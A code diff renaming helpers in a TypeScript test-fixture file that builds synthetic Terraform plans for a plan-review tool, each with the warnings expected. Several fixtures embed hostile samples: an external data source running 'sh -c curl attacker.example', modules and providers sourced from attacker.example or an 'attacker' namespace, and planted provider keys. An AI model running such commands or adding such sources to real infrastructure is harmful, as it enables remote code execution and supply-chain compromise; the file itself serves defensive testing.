@@ -1,11 +1,11 @@
 import type { Json } from "./plan-edits";
 import { readPlans } from "./plan-archives";
 
-/** A recorded plan with changes that this Terraform cannot plan, or not offline. */
+/** A recorded plan with changes that the installed Terraform cannot plan offline. */
 export interface SyntheticPlan {
   /** Name of the recorded plan, in the archive `ordinary-plans`. @default "nothing-changed" */
   readonly from?: string;
-  /** Changes the plan's JSON. */
+  /** Edits the JSON of the plan. */
   readonly edit: (plan: Json) => void;
   readonly expect: readonly string[];
 }
@@ -35,50 +35,50 @@ const TRIGGERED = {
   },
 };
 
-/** Changes of the resource at an address. */
-function changeOf(plan: Json, address: string): { change: Json } & Json {
+/** Returns the change of the resource at an address. */
+function findChange(plan: Json, address: string): { change: Json } & Json {
   const changes = plan.resource_changes as ({ change: Json } & Json)[];
   const found = changes.find((one) => one.address === address);
   if (found === undefined) throw new Error(`no change of ${address}`);
   return found;
 }
 
-function changeOfType(plan: Json, type: string): { change: Json } & Json {
+function findChangeByType(plan: Json, type: string): { change: Json } & Json {
   const changes = plan.resource_changes as ({ change: Json } & Json)[];
   const found = changes.find((one) => one.type === type);
   if (found === undefined) throw new Error(`no change of ${type}`);
   return found;
 }
 
-/** Changes attributes of the first resource of a type, which then is updated. */
-function updated(type: string, before: Json, after: Json) {
+/** Updates attributes of the first resource of a type. */
+function updateFirst(type: string, before: Json, after: Json) {
   return (plan: Json): void => {
-    const { change } = changeOfType(plan, type);
+    const { change } = findChangeByType(plan, type);
     Object.assign(change.before as Json, before);
     Object.assign(change.after as Json, after);
     change.actions = ["update"];
   };
 }
 
-function rootModule(plan: Json): Json {
+function getRootModule(plan: Json): Json {
   return (plan.configuration as { root_module: Json }).root_module;
 }
 
-function addConfigured(plan: Json, resource: Json): void {
-  (rootModule(plan).resources as Json[]).push(resource);
+function addConfiguration(plan: Json, resource: Json): void {
+  (getRootModule(plan).resources as Json[]).push(resource);
 }
 
-function providers(plan: Json): Record<string, Json> {
+function getProviders(plan: Json): Record<string, Json> {
   return (plan.configuration as { provider_config: Record<string, Json> })
     .provider_config;
 }
 
-/** A data source that runs code or reads a server, whose provider cannot be installed offline. */
-function dataSource(type: string, expressions: Json, provider: string) {
+/** Adds a data source whose provider cannot be installed offline. */
+function addDataSource(type: string, expressions: Json, provider: string) {
   return (plan: Json): void => {
     const address = `data.${type}.read`;
     const full_name = `registry.terraform.io/hashicorp/${provider}`;
-    addConfigured(plan, {
+    addConfiguration(plan, {
       address,
       mode: "data",
       type,
@@ -87,7 +87,7 @@ function dataSource(type: string, expressions: Json, provider: string) {
       expressions,
       schema_version: 0,
     });
-    providers(plan)[provider] = { name: provider, full_name };
+    getProviders(plan)[provider] = { name: provider, full_name };
     const values = (
       plan.prior_state as { values: { root_module: { resources: Json[] } } }
     ).values;
@@ -104,11 +104,11 @@ function dataSource(type: string, expressions: Json, provider: string) {
   };
 }
 
-function terraform(version: string, plan: Json): void {
+function setTerraformVersion(version: string, plan: Json): void {
   plan.terraform_version = version;
 }
 
-function check(status: string) {
+function setCheck(status: string) {
   return (plan: Json): void => {
     plan.checks = [
       {
@@ -132,9 +132,9 @@ function check(status: string) {
 export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   "action-triggered": {
     edit: (plan) => {
-      terraform("1.14.0", plan);
+      setTerraformVersion("1.14.0", plan);
       plan.action_invocations = [TRIGGERED];
-      rootModule(plan).actions = [
+      getRootModule(plan).actions = [
         {
           address: NOTIFY,
           type: "aws_lambda_invoke",
@@ -147,7 +147,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "action-invoked": {
     edit: (plan) => {
-      terraform("1.14.0", plan);
+      setTerraformVersion("1.14.0", plan);
       plan.action_invocations = [{ ...INVOCATION, invoke_action_trigger: {} }];
       plan.resource_changes = [];
     },
@@ -155,7 +155,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "action-in-module": {
     edit: (plan) => {
-      terraform("1.14.0", plan);
+      setTerraformVersion("1.14.0", plan);
       plan.action_invocations = [
         {
           ...TRIGGERED,
@@ -169,7 +169,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "action-with-secret": {
     edit: (plan) => {
-      terraform("1.14.0", plan);
+      setTerraformVersion("1.14.0", plan);
       plan.action_invocations = [
         {
           ...TRIGGERED,
@@ -182,8 +182,8 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "deferred-change": {
     edit: (plan) => {
-      terraform("1.14.0", plan);
-      const deferred = changeOf(plan, ROLE);
+      setTerraformVersion("1.14.0", plan);
+      const deferred = findChange(plan, ROLE);
       deferred.change.actions = ["update"];
       plan.deferred_changes = [
         { reason: "resource_config_unknown", resource_change: deferred },
@@ -197,7 +197,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "deferred-instances": {
     edit: (plan) => {
-      terraform("1.14.0", plan);
+      setTerraformVersion("1.14.0", plan);
       plan.deferred_changes = [
         {
           reason: "instance_count_unknown",
@@ -225,7 +225,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "deferred-action": {
     edit: (plan) => {
-      terraform("1.14.0", plan);
+      setTerraformVersion("1.14.0", plan);
       plan.deferred_action_invocations = [
         { reason: "deferred_prereq", action_invocation: TRIGGERED },
       ];
@@ -234,19 +234,19 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
     expect: ["not reviewed: a deferred action"],
   },
   "check-failed": {
-    edit: check("fail"),
+    edit: setCheck("fail"),
     expect: ["check health fails"],
   },
   "check-with-error": {
-    edit: check("error"),
+    edit: setCheck("error"),
     expect: ["check health cannot be evaluated"],
   },
   "check-not-known": {
-    edit: check("unknown"),
+    edit: setCheck("unknown"),
     expect: ["check health: known only after apply"],
   },
   "data-external": {
-    edit: dataSource(
+    edit: addDataSource(
       "external",
       { program: { constant_value: ["sh", "-c", "curl attacker.example"] } },
       "external",
@@ -254,7 +254,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
     expect: ["not reviewed: data source external runs a program"],
   },
   "data-http": {
-    edit: dataSource(
+    edit: addDataSource(
       "http",
       { url: { constant_value: "https://attacker.example" } },
       "http",
@@ -263,7 +263,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "module-from-elsewhere": {
     edit: (plan) => {
-      rootModule(plan).module_calls = {
+      getRootModule(plan).module_calls = {
         auth: {
           source: "git::https://attacker.example/auth.git?ref=main",
           module: {},
@@ -274,7 +274,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "module-of-registry": {
     edit: (plan) => {
-      rootModule(plan).module_calls = {
+      getRootModule(plan).module_calls = {
         auth: {
           source: "attacker/auth/aws",
           version_constraint: ">= 0.0.1",
@@ -286,7 +286,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "provider-of-another-source": {
     edit: (plan) => {
-      Object.assign(providers(plan).aws ?? {}, {
+      Object.assign(getProviders(plan).aws ?? {}, {
         full_name: "registry.terraform.io/attacker/aws",
       });
     },
@@ -295,13 +295,13 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   "provider-of-another-kind": {
     edit: (plan) => {
       const full_name = "registry.terraform.io/hashicorp/null";
-      providers(plan).null = { name: "null", full_name };
+      getProviders(plan).null = { name: "null", full_name };
     },
     expect: ["not reviewed: provider hashicorp/null"],
   },
   "provider-in-module": {
     edit: (plan) => {
-      providers(plan)["module.auth:aws"] = {
+      getProviders(plan)["module.auth:aws"] = {
         name: "aws",
         full_name: AWS,
         module_address: "module.auth",
@@ -314,7 +314,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "provider-keys": {
     edit: (plan) => {
-      Object.assign(providers(plan).aws?.expressions as Json, {
+      Object.assign(getProviders(plan).aws?.expressions as Json, {
         access_key: { constant_value: "AKIAIOSFODNN7PLANTED" },
         secret_key: { constant_value: "planted-provider-secret-02bd" },
       });
@@ -323,7 +323,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "provider-assumes-foreign-role": {
     edit: (plan) => {
-      Object.assign(providers(plan).aws?.expressions as Json, {
+      Object.assign(getProviders(plan).aws?.expressions as Json, {
         assume_role: [{ role_arn: { constant_value: PARTNER } }],
       });
     },
@@ -331,7 +331,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "provider-of-foreign-account": {
     edit: (plan) => {
-      providers(plan)["aws.other"] = {
+      getProviders(plan)["aws.other"] = {
         name: "aws",
         full_name: AWS,
         alias: "other",
@@ -339,7 +339,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
           assume_role: [{ role_arn: { constant_value: PARTNER } }],
         },
       };
-      const resources = rootModule(plan).resources as Json[];
+      const resources = getRootModule(plan).resources as Json[];
       const role = resources.find(({ address }) => address === ROLE);
       Object.assign(role ?? {}, { provider_config_key: "aws.other" });
     },
@@ -347,7 +347,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "provisioner-remote": {
     edit: (plan) => {
-      const [first] = rootModule(plan).resources as Json[];
+      const [first] = getRootModule(plan).resources as Json[];
       Object.assign(first ?? {}, {
         provisioners: [
           {
@@ -367,7 +367,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
     ],
   },
   "new-attribute": {
-    edit: updated(
+    edit: updateFirst(
       "aws_cognito_user_pool",
       { future_setting: null },
       { future_setting: "ON" },
@@ -376,7 +376,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "new-attribute-in-block": {
     edit: (plan) => {
-      const { change } = changeOfType(plan, "aws_cognito_user_pool");
+      const { change } = findChangeByType(plan, "aws_cognito_user_pool");
       const copy = JSON.parse(JSON.stringify(change.after)) as Json;
       const [passwords = {}] = copy.password_policy as Json[];
       passwords.future_setting = true;
@@ -386,7 +386,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "new-attribute-unknown": {
     edit: (plan) => {
-      const { change } = changeOfType(plan, "aws_cognito_user_pool_client");
+      const { change } = findChangeByType(plan, "aws_cognito_user_pool_client");
       change.actions = ["update"];
       change.after_unknown = { future_setting: true };
     },
@@ -414,20 +414,20 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
   },
   "new-kind-of-action": {
     edit: (plan) => {
-      changeOf(plan, ROLE).change.actions = ["future"];
+      findChange(plan, ROLE).change.actions = ["future"];
     },
     expect: ["not reviewed: change future of role deployer"],
   },
   "create-and-forget": {
     edit: (plan) => {
-      const { change } = changeOfType(plan, "aws_cognito_user_pool");
+      const { change } = findChangeByType(plan, "aws_cognito_user_pool");
       change.actions = ["create", "forget"];
     },
     expect: ["user pool is replaced, the old one is no longer managed"],
   },
   "sensitive-policy": {
     edit: (plan) => {
-      const { change } = changeOf(plan, ROLE);
+      const { change } = findChange(plan, ROLE);
       const trust = JSON.parse(
         String((change.after as Json).assume_role_policy),
       ) as { Statement: Json[] };
@@ -463,7 +463,7 @@ export const SYNTHETIC_PLANS: Readonly<Record<string, SyntheticPlan>> = {
 
 const RECORDED = readPlans("ordinary-plans");
 
-/** Returns a made-up plan as text. */
+/** Builds the JSON text of a synthetic plan. */
 export function buildSyntheticPlan({
   from = "nothing-changed",
   edit,
